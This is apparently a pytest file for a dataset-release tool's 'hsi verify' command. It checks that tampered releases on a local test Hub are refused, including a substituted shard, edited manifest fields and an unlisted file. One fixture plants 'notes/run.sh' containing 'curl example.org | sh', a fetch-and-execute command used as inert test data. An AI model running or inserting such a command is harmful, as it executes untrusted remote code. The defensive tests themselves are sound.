"""`hsi verify` against tampered revisions on the loopback Hub (issue 30): a shard the manifest does
not list, read by the card instead of one it does; a changed fingerprint, class names, counts, spec,
README; a file the release does not list. Each was reported intact before; each is now refused with
its own line, every difference listed, exit status 1."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest
from hub_server import LoopbackHub, Repo, hub_env
from release_factory import PARTS_FINGERPRINT, composed_fingerprint, factory_spec, two_releases

from builder.compose.stage import compose_settings
from builder.core.config import fingerprint
from builder.formats.composites import SCHEMA_VERSION

NAME = "hard-spurious-imagenet"
DATA = f"data/{NAME}"
INFO = f"{DATA}/_info.json"
EXTRA = f"{DATA}/test-00009.tar"  # a shard name of the right form, listed nowhere in the release

# One process verifies every repo (the Hub's address is read at import); for the substituted repo
# it also loads the dataset as a user would, to show what the card made users read.
VERIFY_EACH = """
import contextlib, io, json, sys
from hsi.cli import main
results = {}
for repo in sys.argv[1:]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        status = main(["verify", repo, "--version", "v1.0.0"])
    results[repo] = [status, out.getvalue().splitlines(), err.getvalue()]
from datasets import load_dataset
loaded = load_dataset("lab/substituted", split="test", revision="v1.0.0", streaming=True)
results["loaded_seeds"] = sorted({sample["json"]["seed"] for sample in loaded})
print("RESULTS " + json.dumps(results))
"""


def edited_info(good: dict, edit) -> dict:
    info = json.loads(good[INFO])
    edit(info)
    return {INFO: json.dumps(info, sort_keys=True, indent=2).encode()}


def substituted(good: dict, other_shard: bytes) -> dict:
    """The attack: a shard of other samples added, and the card pointed at it instead of test-00000."""
    card = good["README.md"].decode()
    assert card.count(f"{DATA}/test-00000.tar") == 1
    return {EXTRA: other_shard, "README.md": card.replace(f"{DATA}/test-00000.tar", EXTRA).encode()}


def renamed_classes(info: dict) -> None:
    info["class_names"] = ["x"] * len(info["class_names"])


def recounted(info: dict) -> None:
    groups = info["splits"]["test"]["counts"]["group"]
    first = sorted(groups)[0]
    groups[first] += 1


def other_spec(info: dict) -> None:
    info["spec"]["sizes"] = [56]


def other_fingerprint(info: dict) -> None:
    info["fingerprint"] = "0" * 16


@pytest.fixture(scope="module")
def verified(tmp_path_factory):
    """{repo: (exit status, stdout lines, stderr)} of `hsi verify` on each tampered revision of v1.0.0."""
    root = tmp_path_factory.mktemp("adv-verify")
    v1, v2 = two_releases(root)
    good = {p.relative_to(v1).as_posix(): p.read_bytes() for p in v1.rglob("*") if p.is_file()}
    card = good["README.md"].decode()
    cases = {
        "lab/intact": {},
        "lab/substituted": substituted(good, (v2 / DATA / "test-00000.tar").read_bytes()),
        "lab/fingerprint": edited_info(good, other_fingerprint),
        "lab/class-names": edited_info(good, renamed_classes),
        "lab/counts": edited_info(good, recounted),
        "lab/spec": edited_info(good, other_spec),
        "lab/readme": {"README.md": card.replace("## Usage", "## Usage\n\nTrust us.", 1).encode()},
        "lab/unlisted": {"notes/run.sh": b"curl example.org | sh\n"},
    }
    with LoopbackHub() as hub:
        for repo_id, changes in cases.items():
            repo = Repo(private=False)
            repo.tags["v1.0.0"] = repo.commit(None, {**good, **changes}, "Release v1.0.0")
            hub.state.repos[repo_id] = repo
        env = hub_env(hub.endpoint, root / "home")
        result = subprocess.run(
            [sys.executable, "-c", VERIFY_EACH, *cases],
            env=dict(env, PYTHONPATH=os.pathsep.join(sys.path)),
            capture_output=True,
            text=True,
            timeout=400,
        )
    assert result.returncode == 0, result.stderr[-3000:]
    line = next(line for line in result.stdout.splitlines() if line.startswith("RESULTS "))
    return json.loads(line.removeprefix("RESULTS "))


def failed(verified, repo: str) -> list[str]:
    """The FAILED lines of a refused verify (exit 1, the count of problems on stderr)."""
    status, lines, err = verified[repo]
    problems = [line.removeprefix("FAILED: ") for line in lines if line.startswith("FAILED: ")]
    assert status == 1 and f"{len(problems)} problems in {repo}@v1.0.0" in err, (status, lines, err)
    assert not any(line.startswith("OK") for line in lines)
    return problems


def test_an_intact_release_verifies_and_streams_the_shards_it_hashed(verified):
    status, lines, err = verified["lab/intact"]
    assert status == 0, (lines, err)
    assert lines[-2:] == [f"{NAME}/test: 3 shards hashed, 5 samples streamed", "OK: lab/intact@v1.0.0 is intact"]


def test_a_shard_substituted_through_the_card_is_refused_naming_it(verified):
    # what users got: the other release's samples (seed 1) in place of test-00000's (seed 0)
    assert verified["loaded_seeds"] == [0, 1]
    problems = failed(verified, "lab/substituted")
    assert problems == [
        "README.md: sha256 differs from _release.json's record (changed since `hsi release` wrote it)",
        f"{EXTRA}: in the revision but not part of the release (_release.json does not list it)",
        f"README.md: config '{NAME}' split 'test' reads {EXTRA}, which {INFO} does not list",
        f"README.md: config '{NAME}' split 'test' does not read {DATA}/test-00000.tar, which {INFO} lists",
    ]
    assert f"{NAME}/test: 3 shards hashed, not streamed (see the card)" in verified["lab/substituted"][1]


INFO_CHANGED = f"{INFO}: sha256 differs from _release.json's record (changed since `hsi release` wrote it)"


@pytest.mark.parametrize(
    "repo, says",
    [
        ("lab/fingerprint", f"{INFO}: fingerprint 0000000000000000 is not that of the settings it records"),
        ("lab/fingerprint", f"{INFO}: fingerprint 0000000000000000, _release.json records "),
        ("lab/class-names", f"README.md: config '{NAME}' declares other features (class names) than {INFO} lists"),
        ("lab/class-names", f"{NAME}/test: 5 samples' class_name is not the manifest's class_names[label]"),
        ("lab/counts", f"{NAME}/test: the manifest counts "),
        ("lab/spec", f"{INFO}: fingerprint "),
        ("lab/readme", "README.md: sha256 differs from _release.json's record"),
        ("lab/unlisted", "notes/run.sh: in the revision but not part of the release (_release.json does not list it)"),
    ],
)
def test_each_tampering_is_refused_with_its_own_line(verified, repo, says):
    problems = failed(verified, repo)
    assert any(line.startswith(says) for line in problems), problems
    if repo in ("lab/fingerprint", "lab/class-names", "lab/counts", "lab/spec"):
        assert INFO_CHANGED in problems
    else:
        assert INFO_CHANGED not in problems


def test_a_changed_spec_is_named_by_its_fingerprint(verified):
    spec = factory_spec(NAME, 0)
    other_spec({"spec": spec})
    recomputed = fingerprint(compose_settings(spec, PARTS_FINGERPRINT, SCHEMA_VERSION))
    assert [line for line in failed(verified, "lab/spec") if "fingerprint" in line] == [
        f"{INFO}: fingerprint {composed_fingerprint()} is not that of the settings it records (spec, parts, "
        f"schema), which is {recomputed}"
    ]


# -- the same checks on a release folder on disk (`hsi verify FOLDER`) ---------------------------------------


def test_a_release_folder_is_verified_and_a_substitution_in_it_refused(tmp_path, capsys):
    import shutil

    from hsi.cli import main

    v1, v2 = two_releases(tmp_path)
    assert main(["verify", str(v1), "--version", "v1.0.0"]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[-2:] == [f"{NAME}/test: 3 shards hashed, 5 samples streamed", f"OK: {v1} is intact"]

    folder = tmp_path / "copy"
    shutil.copytree(v1, folder)
    good = {"README.md": (v1 / "README.md").read_bytes()}
    for path, data in substituted(good, (v2 / DATA / "test-00000.tar").read_bytes()).items():
        (folder / path).write_bytes(data)
    (folder / "notes").symlink_to(tmp_path)  # a link is named, never followed
    assert main(["verify", str(folder)]) == 1
    captured = capsys.readouterr()
    problems = [line.removeprefix("FAILED: ") for line in captured.out.splitlines() if line.startswith("FAILED: ")]
    assert problems == [
        "notes: a link or not a regular file; a release holds only its own files",
        "README.md: sha256 differs from _release.json's record (changed since `hsi release` wrote it)",
        f"{EXTRA}: in the revision but not part of the release (_release.json does not list it)",
        f"README.md: config '{NAME}' split 'test' reads {EXTRA}, which {INFO} does not list",
        f"README.md: config '{NAME}' split 'test' does not read {DATA}/test-00000.tar, which {INFO} lists",
    ]
    assert f"5 problems in {folder}" in captured.err
    assert main(["verify", str(v1), "--version", "v2.0.0"]) == 1
    assert "FAILED: _release.json says version 'v1.0.0', not v2.0.0" in capsys.readouterr().out
